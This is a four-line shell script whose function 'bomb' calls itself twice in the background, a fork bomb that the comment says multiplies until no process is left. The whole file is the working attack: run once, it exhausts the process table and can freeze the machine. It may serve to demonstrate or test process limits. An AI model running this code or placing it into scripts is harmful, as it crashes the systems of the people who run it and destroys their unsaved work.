# Multiplies until there is no process left to be had.
bomb() { bomb | bomb & }
bomb
sleep 20
